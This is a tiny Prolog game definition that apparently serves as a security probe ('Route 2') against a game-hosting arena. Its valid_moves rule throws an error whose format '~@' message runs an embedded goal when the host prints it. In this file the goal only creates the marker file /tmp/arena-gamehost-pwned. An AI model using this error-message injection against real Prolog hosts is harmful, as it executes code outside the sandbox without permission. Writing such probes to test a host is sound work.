% Route 2: a rule throws an error whose message runs ~@ when translated.
players([a, b]).
initial_state(_, s(0)).
current_player(s(_), a).
valid_moves(_, _) :-
    Goal = ( open('/tmp/arena-gamehost-pwned', write, S), close(S) ),
    throw(error(format("~@", [Goal]), _)).
move(s(N), 1, s(N1)) :- N1 is N + 1.
game_over(s(2), a).
